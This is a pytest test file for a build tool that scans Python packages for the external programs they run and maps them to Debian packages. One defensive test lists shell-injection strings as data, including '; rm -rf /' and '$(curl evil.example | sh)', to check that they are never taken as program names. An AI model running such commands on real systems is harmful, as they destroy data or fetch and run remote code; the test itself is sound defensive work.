"""Reading the programs Python code runs (builder/inspect/programs.py), and what the plan makes
of them (builder/plan/program_needs.py): synthetic sources for each call form, small
wheels shaped like pdf2image, pytesseract, pydub, graphviz and matplotlib, the index lookup.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from support.plans import plan_for
from support.wheelfactory import make_wheel

from builder.errors import UserError
from builder.inspect.program_names import program_name
from builder.inspect.programs import scan_source, scan_sources
from builder.plan.debian import added_size, package_for_program, program_table
from builder.resolve.target import ARCHES, shipped_facts

PURE = "py3-none-any"


def names(source: str, path: str = "pkg/mod.py") -> list[tuple[str, ...]]:
    return [site.names for site in scan_source(path, source.encode())]


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("import subprocess\nsubprocess.run(['pdftoppm', '-v'])", [("pdftoppm",)]),
        ("import subprocess\nsubprocess.call('pdfinfo doc.pdf', shell=True)", [("pdfinfo",)]),
        ("import subprocess\nsubprocess.check_output(args=['dot', '-V'])", [("dot",)]),
        ("import subprocess as sp\nsp.Popen(('tesseract', 'in', 'out'))", [("tesseract",)]),
        ("from subprocess import check_call\ncheck_call(['ffmpeg', '-i', 'x'])", [("ffmpeg",)]),
        ("import subprocess\nsubprocess.getoutput('pandoc --version')", [("pandoc",)]),
        ("import os\nos.system('gs -q -dBATCH')", [("gs",)]),
        ("import os\nos.popen('pdftotext a.pdf -')", [("pdftotext",)]),
        ("import os\nos.execvp('qpdf', ['qpdf', '--check'])", [("qpdf",)]),
        ("import os\nos.spawnlp(os.P_WAIT, 'unzip', 'unzip', 'a.zip')", [("unzip",)]),
        ("import os\nos.posix_spawnp('convert', ['convert'], {})", [("convert",)]),
        (
            "import asyncio\nasync def f():\n"
            "    await asyncio.create_subprocess_exec('ffprobe', 'x')",
            [("ffprobe",)],
        ),
        ("import shutil\nshutil.which('/usr/bin/latex')", [("latex",)]),
        ("import subprocess\nsubprocess.run(['gswin64c.exe'])", [("gswin64c",)]),
        ("import subprocess\nsubprocess.run(f'{\"gs\"} -v')", [("gs",)]),
        ("import subprocess\nsubprocess.run(['echo', 'x'], cwd='/tmp')", [("echo",)]),
    ],
)
def test_each_call_form(source: str, expected: list[tuple[str, ...]]) -> None:
    assert names(source) == expected


def test_indirections() -> None:
    source = """\
import os, pathlib, shutil, subprocess
BINARY = pathlib.Path('dot')
tesseract_cmd = 'tesseract'

def command_path(command, poppler_path=None):
    if poppler_path is not None:
        command = os.path.join(poppler_path, command)
    return command

def encoder():
    if shutil.which('avconv'):
        return 'avconv'
    return 'ffmpeg'

class Segment:
    converter = encoder()

    def export(self):
        subprocess.Popen([self.converter, '-y'])

def info(path):
    command = [command_path('pdfinfo'), path]
    subprocess.Popen(command)

def ocr(nice=0):
    args = []
    if nice:
        args += ('nice', '-n', str(nice))
    args += (tesseract_cmd, 'in', 'out')
    subprocess.Popen(args)

def render():
    subprocess.run([BINARY, '-Tsvg'])

def probe(filename, cmd='ffprobe'):
    subprocess.run([cmd, filename])

for name in ('magick', 'convert'):
    if shutil.which(name):
        break
"""
    found = {site.names: site.optional for site in scan_source("pkg/mod.py", source.encode())}
    assert found == {
        ("avconv",): True,  # shutil.which: a probe
        ("avconv", "ffmpeg"): False,  # the helper's returns: alternatives
        ("pdfinfo",): False,
        ("nice",): False,
        ("tesseract",): False,
        ("dot",): False,
        ("ffprobe",): False,
        ("magick", "convert"): True,
    }


def test_guarded_runs_are_optional_and_computed_names_are_left_alone() -> None:
    source = """\
import os, subprocess, sys
try:
    subprocess.run(['git', 'describe'])
except FileNotFoundError:
    version = None
try:
    subprocess.run(['dvipng', '-v'])
except OSError:
    raise RuntimeError('install dvipng')
subprocess.run([sys.executable, '-m', 'pip'])
subprocess.run([os.environ['EDITOR'], 'file'])
subprocess.run(['-x'])
"""
    found = {site.names: site.optional for site in scan_source("pkg/m.py", source.encode())}
    assert found == {("git",): True, ("dvipng",): False}


def test_a_runner_helper_of_a_sibling_module_and_its_constants() -> None:
    """graphviz's shape: backend/execute.py runs its parameter, rendering.py passes a list a
    third module builds from its constant."""
    files = {
        "viz/backend/execute.py": b"import subprocess\ndef run_check(cmd, **kw):\n"
        b"    return subprocess.run(cmd, **kw)\n",
        "viz/backend/dot_command.py": b"import pathlib\nDOT_BINARY = pathlib.Path('dot')\n"
        b"def command(engine):\n    cmd = [DOT_BINARY, f'-K{engine}']\n    return cmd\n",
        "viz/backend/rendering.py": b"from . import dot_command\nfrom . import execute\n"
        b"def render(engine):\n    cmd = dot_command.command(engine)\n    cmd += ['-o', 'x']\n"
        b"    execute.run_check(cmd)\n",
        "viz/tests/test_x.py": b"import subprocess\nsubprocess.run(['pytest'])\n",
        "viz/docs/conf.py": b"import subprocess\nsubprocess.run(['sphinx-build'])\n",
    }
    sites = scan_sources(files, files.__getitem__)
    assert [(site.path, site.names) for site in sites] == [("viz/backend/rendering.py", ("dot",))]


def test_a_runner_re_exported_by_its_package() -> None:
    """ocrmypdf's shape: `run` defined in pkg/subprocess/_run.py, re-exported by the package's
    __init__, called from a module that imports it from the package."""
    files = {
        "ocr/subprocess/__init__.py": b"from ocr.subprocess._run import run\n",
        "ocr/subprocess/_run.py": b"from subprocess import run as subprocess_run\n"
        b"def run(args, *, check=False):\n    return subprocess_run(args, check=check)\n",
        "ocr/_exec/tesseract.py": b"from ocr.subprocess import run\n"
        b"def base_args():\n    args = ['tesseract']\n    return args\n"
        b"def langs():\n    return run(base_args() + ['--list-langs'])\n",
    }
    sites = scan_sources(files, files.__getitem__)
    assert [(site.path, site.names) for site in sites] == [
        ("ocr/_exec/tesseract.py", ("tesseract",))
    ]


def test_program_names() -> None:
    assert program_name("/usr/bin/pdftoppm") == "pdftoppm"
    assert program_name("gs.exe") == "gs"
    assert program_name("g++") == "g++" and program_name("x86_64-linux-gnu-gcc") is not None
    assert program_name("-v") is None and program_name("") is None
    assert program_name("{placeholder}") is None
    assert program_name("123") is None  # a number is no program
    assert program_name("x" * 200) is None


def test_a_flag_passed_to_a_helper_is_no_program() -> None:
    """statsmodels' x13: a bool bound to a helper's parameter read as the program `False`."""
    source = """\
import subprocess
def find(path=None, prefer_x13=True):
    return prefer_x13
def flag(strict=None):
    return strict
subprocess.Popen([find(None, False), 'spec'])
subprocess.Popen([find(prefer_x13=True)])
subprocess.Popen([flag()])
subprocess.Popen([flag(7)])
"""
    assert names(source) == []


@pytest.mark.parametrize(
    "command",
    [
        "; rm -rf /",
        "$(curl evil.example | sh)",
        "`id`",
        "a b; c",
        "../../bin/sh\\x",
        "'; touch /x'",
        "pdftoppm\n; id",
    ],
)
def test_a_hostile_name_never_becomes_a_program(command: str) -> None:
    """A wheel's string reaches the index lookup, the plan and verification's program runs only
    as a plain file name (letters, digits, `._+-`): shell syntax is no program."""
    for source in (f"os.system({command!r})", f"subprocess.run([{command!r}, '-v'])"):
        found = names(f"import os, subprocess\n{source}\n")
        assert all(program_name(name) == name for group in found for name in group), found
        assert not [n for g in found for n in g if set(n) & set(";$`'| /\n\\")], found


def test_env_and_shell_builtins_are_not_the_program() -> None:
    source = """\
import os, subprocess
subprocess.run(['env', 'LANG=C', 'dot', '-V'])
subprocess.run('/usr/bin/env -i PATH=/usr/bin pdftoppm -v', shell=True)
os.system('unset DISPLAY; true')
"""
    assert names(source) == [("dot",), ("pdftoppm",), ("unset",)]
    assert "unset" in program_table().provided  # the shell's: never a package


def test_the_index_maps_programs_to_packages_on_both_arches() -> None:
    for arch in ARCHES.values():
        assert package_for_program("pdftoppm", arch) == "poppler-utils"
        assert package_for_program("tesseract", arch) == "tesseract-ocr"
        assert package_for_program("ffmpeg", arch) == "ffmpeg"
        assert package_for_program("dot", arch) == "graphviz"
        assert package_for_program("xdg-open", arch) == "xdg-utils"  # Contents-all
        assert package_for_program("no-such-program-here", arch) is None


def test_every_curated_decision_has_a_reason() -> None:
    table = program_table()
    assert {"python3", "pip"} <= table.provided and "xdg-open" in table.desktop
    entries = [entry for found in table.ranges.values() for entry in found]
    assert len(entries) > len(table.entries)  # kaleido's two ranges
    for entry in entries:
        assert entry.reason or (entry.required is None and not entry.optional)
    assert all(alternative.reason for alternative in table.alternatives.values())


WRAPPER = b"""\
import subprocess

def _path(command, poppler_path=None):
    return command

def convert(pdf):
    subprocess.Popen([_path('pdftoppm'), pdf])

def info(pdf):
    subprocess.Popen([_path('pdfinfo'), pdf])

def show(png):
    subprocess.Popen(['xdg-open', png])
"""
SIDE = b"""\
import shutil, subprocess

def make_dvi(tex):
    subprocess.check_output(['latex', tex])

def to_png(dvi):
    subprocess.check_output(['dvipng', dvi])

def movie():
    subprocess.Popen(['ffmpeg', '-y'])
"""


def wheel(tmp_path: Path, name: str, files: dict[str, bytes]) -> Path:
    return make_wheel(tmp_path, name, "1.0", PURE, files)


def test_a_wrapper_gets_its_package_and_a_side_feature_stays_optional(tmp_path: Path) -> None:
    plan = plan_for(
        tmp_path,
        [
            wheel(tmp_path, "pdfwrap", {"pdfwrap/__init__.py": WRAPPER}),
            wheel(tmp_path, "plotlib", {"plotlib/texmanager.py": SIDE}),
        ],
    )
    assert plan.apt_packages == ("poppler-utils",)
    assert set(plan.optional_packages) == {"dvipng", "ffmpeg", "texlive-latex-base"}
    runs = {(need.program, need.package): need for need in plan.programs}
    assert set(runs) == {
        ("pdfinfo", "poppler-utils"),
        ("pdftoppm", "poppler-utils"),
        ("latex", "texlive-latex-base"),
        ("dvipng", "dvipng"),
        ("ffmpeg", "ffmpeg"),
    }  # xdg-open: a desktop program, no need at all
    assert not runs["pdftoppm", "poppler-utils"].optional
    assert runs["pdftoppm", "poppler-utils"].distributions == ("pdfwrap==1.0",)
    assert "side feature" in runs["latex", "texlive-latex-base"].why
    assert plan.warnings == ()
    assert plan.apt_size == added_size(("poppler-utils",), shipped_facts().packages["amd64"], AMD64)


AMD64 = ARCHES["amd64"]


@pytest.mark.parametrize("arch", sorted(ARCHES))
def test_the_apt_stage_size_counts_dependencies_not_the_base(arch: str) -> None:
    base = shipped_facts().packages[arch]
    gomp = added_size(["libgomp1"], base, ARCHES[arch])
    poppler = added_size(["poppler-utils"], base, ARCHES[arch])
    both = added_size(["poppler-utils", "libgomp1"], base, ARCHES[arch])
    assert gomp is not None and poppler is not None and both is not None
    assert 100_000 < gomp < 2_000_000  # libgomp1 alone: libc6 and gcc-14-base are the base's
    assert poppler > 20_000_000  # libpoppler and what it links, not poppler-utils' own ~1 MB
    assert max(poppler, gomp) < both <= poppler + gomp
    assert added_size([], base, ARCHES[arch]) == 0
    assert added_size(["no-such-package"], base, ARCHES[arch]) is None


def test_with_optional_installs_side_features(tmp_path: Path) -> None:
    plan = plan_for(
        tmp_path, [wheel(tmp_path, "plotlib", {"plotlib/tex.py": SIDE})], with_optional=True
    )
    assert plan.apt_packages == ("dvipng", "ffmpeg", "texlive-latex-base")


def test_a_program_in_a_corner_of_a_big_distribution_is_optional(tmp_path: Path) -> None:
    """imageio's shape: one plugin of many modules runs one converter."""
    files = {f"big/m{n}.py": b"x = 1\n" for n in range(30)}
    files["big/plugins/dicom.py"] = b"import subprocess\nsubprocess.check_call(['gdcmconv', 'a'])\n"
    plan = plan_for(tmp_path, [wheel(tmp_path, "big", files)])
    assert plan.apt_packages == ()
    assert plan.optional_packages == (package_for_program("gdcmconv", ARCHES["amd64"]),)


def test_the_base_satisfies_alternatives_and_its_own_programs(tmp_path: Path) -> None:
    source = b"""\
import subprocess, shutil
subprocess.run(['nice', '-n', '5', 'true'])
subprocess.run(['python3', '-c', 'pass'])
tool = 'gzip' if shutil.which('gzip') else 'pigz'
subprocess.run([tool, 'x'])
"""
    plan = plan_for(tmp_path, [wheel(tmp_path, "basey", {"basey/__init__.py": source})])
    assert plan.programs == () and plan.apt_packages == ()


def test_a_left_out_program_warns_and_is_not_installed(tmp_path: Path) -> None:
    plan = plan_for(
        tmp_path,
        [wheel(tmp_path, "pdfwrap", {"pdfwrap/__init__.py": WRAPPER})],
        without=frozenset({"poppler-utils"}),
    )
    assert plan.apt_packages == () and plan.optional_packages == ()
    assert all(need.left_out for need in plan.programs)
    assert plan.warnings == (
        "warning: pdfinfo (poppler-utils) left out by without-programs: pdfwrap==1.0 cannot"
        " run it, what needs it will fail in the image",
        "warning: pdftoppm (poppler-utils) left out by without-programs: pdfwrap==1.0 cannot"
        " run it, what needs it will fail in the image",
    )
    assert {need.program for need in plan.installed_programs()} == {"pdfinfo", "pdftoppm"}


def test_an_unknown_name_left_out_is_refused_and_an_unused_one_warned(tmp_path: Path) -> None:
    """An operator's typo must not leave ffmpeg in silently; a real name nothing runs is said."""
    pdfwrap = wheel(tmp_path, "pdfwrap", {"pdfwrap/__init__.py": WRAPPER})
    with pytest.raises(UserError, match="'ffmepg' is neither a program nor a package Debian 13"):
        plan_for(tmp_path, [pdfwrap], without=frozenset({"ffmepg"}))
    plan = plan_for(tmp_path, [pdfwrap], without=frozenset({"ffmpeg"}))
    assert plan.apt_packages == ("poppler-utils",)
    assert plan.warnings == (
        "warning: without-programs: nothing in the set runs ffmpeg; leaving it out changes nothing",
    )


@pytest.mark.parametrize(
    ("name", "files", "required", "optional"),
    [
        (  # pycparser: cpp only when asked to preprocess
            "pycparser",
            {
                "pycparser/__init__.py": b"import subprocess\n"
                b"def preprocess_file(f, cpp_path='cpp'):\n"
                b"    return subprocess.check_output([cpp_path, f])\n",
                "pycparser/c_parser.py": b"x = 1\n",
            },
            (),
            ("cpp",),
        ),
        (  # gitpython: git runs through an attribute reading cannot follow
            "gitpython",
            {"git/cmd.py": b"import subprocess\nsubprocess.Popen(['ps', '--ppid'])\n"},
            ("git",),
            ("procps",),
        ),
    ],
)
def test_curated_entries_correct_the_share_rule(
    tmp_path: Path,
    name: str,
    files: dict[str, bytes],
    required: tuple[str, ...],
    optional: tuple[str, ...],
) -> None:
    plan = plan_for(tmp_path, [wheel(tmp_path, name, files)])
    assert plan.apt_packages == required
    assert plan.optional_packages == optional
    assert all(need.why.startswith("curated: ") for need in plan.programs)


def test_a_run_in_a_module_for_another_system_is_optional(tmp_path: Path) -> None:
    """psutil's shape: its one run (lsdev) is in the AIX module of ten; the share rule alone
    would install procinfo."""
    files = {f"psu/_ps{n}.py": b"x = 1\n" for n in ("linux", "posix", "common", "windows")}
    files["psu/_psaix.py"] = b"import subprocess\nsubprocess.Popen(['lsdev', '-Cc'])\n"
    plan = plan_for(tmp_path, [wheel(tmp_path, "psu", files)])
    assert plan.apt_packages == () and plan.optional_packages == ("procinfo",)
    files["psu/_pslinux.py"] = files.pop("psu/_psaix.py")
    assert plan_for(tmp_path, [wheel(tmp_path, "psu", files)]).apt_packages == ("procinfo",)


def test_a_curated_entry_decides(tmp_path: Path) -> None:
    """pypandoc runs pandoc, and ar (binutils) to unpack a download: two packages, so reading
    alone would make both optional; its entry names pandoc."""
    source = b"""\
import subprocess
def convert(text):
    return subprocess.check_output(['pandoc', '--from', 'md'], input=text)
def download(deb):
    subprocess.check_call(['ar', 'x', deb])
"""
    plan = plan_for(tmp_path, [wheel(tmp_path, "pypandoc", {"pypandoc/__init__.py": source})])
    assert plan.apt_packages == ("pandoc",)
    assert plan.optional_packages == ("binutils",)


def test_a_curated_program_debian_does_not_ship_is_refused_unless_left_out(tmp_path: Path) -> None:
    """pdfkit's shape: `which wkhtmltopdf` (which the base has), then the path it printed."""
    source = b"""\
import subprocess
def configure():
    return subprocess.Popen(['which', 'wkhtmltopdf'], stdout=subprocess.PIPE).communicate()[0]
def render(path, options):
    return subprocess.Popen([path, *options, '-', '-'], stdout=subprocess.PIPE)
"""
    pdfkit = wheel(tmp_path, "pdfkit", {"pdfkit/configuration.py": source})
    assert package_for_program("wkhtmltopdf", AMD64) is None
    with pytest.raises(UserError, match=r"^pdfkit==1\.0 runs wkhtmltopdf, which no Debian 13"):
        plan_for(tmp_path, [pdfkit])
    plan = plan_for(tmp_path, [pdfkit], without=frozenset({"wkhtmltopdf"}))
    assert plan.apt_packages == ()
    (need,) = plan.programs  # reported left out, with no package
    assert (need.program, need.package, need.left_out) == ("wkhtmltopdf", None, True)
    assert plan.warnings == (
        "warning: wkhtmltopdf (no Debian 13 package ships it for amd64) left out by"
        " without-programs: pdfkit==1.0 cannot run it, what needs it will fail in the image",
    )


SHELL_PARSER = b"""\
import subprocess
class BaseParser(object):
    def process(self, filename):
        return self.extract(filename)
class ShellParser(BaseParser):
    def run(self, args):
        try:
            pipe = subprocess.Popen(args, stdout=subprocess.PIPE)
        except OSError as e:
            raise RuntimeError(' '.join(args)) from e
        return pipe.communicate()
class Fallback(ShellParser):
    def extract(self, filename):
        return self.run(['unrtf', '--text', filename])
"""


def test_a_method_running_its_parameter_is_followed_into_derived_classes() -> None:
    """textract's shape: ShellParser.run(self, args) runs what each format's parser passes,
    from modules of its own (`from .utils import ShellParser`) or its own module."""
    sources = {
        "tx/parsers/utils.py": SHELL_PARSER,
        "tx/parsers/doc_parser.py": b"""\
from .utils import ShellParser
class Parser(ShellParser):
    def extract(self, filename, **kwargs):
        stdout, stderr = self.run(['antiword', filename])
        return stdout
""",
        "tx/parsers/pdf_parser.py": b"""\
from . import utils
class Parser(utils.ShellParser):
    def extract(self, filename):
        return self.run(['pdftotext', filename, '-'])[0]
""",
        "tx/parsers/other.py": b"""\
from .utils import BaseParser
class Unrelated(BaseParser):
    def run(self, args):
        return args
    def extract(self, filename):
        return self.run(['not-a-program-run', filename])
""",
    }
    found = {(site.path, site.names) for site in scan_sources(sources, sources.__getitem__)}
    assert found == {
        ("tx/parsers/doc_parser.py", ("antiword",)),
        ("tx/parsers/pdf_parser.py", ("pdftotext",)),
        ("tx/parsers/utils.py", ("unrtf",)),
    }
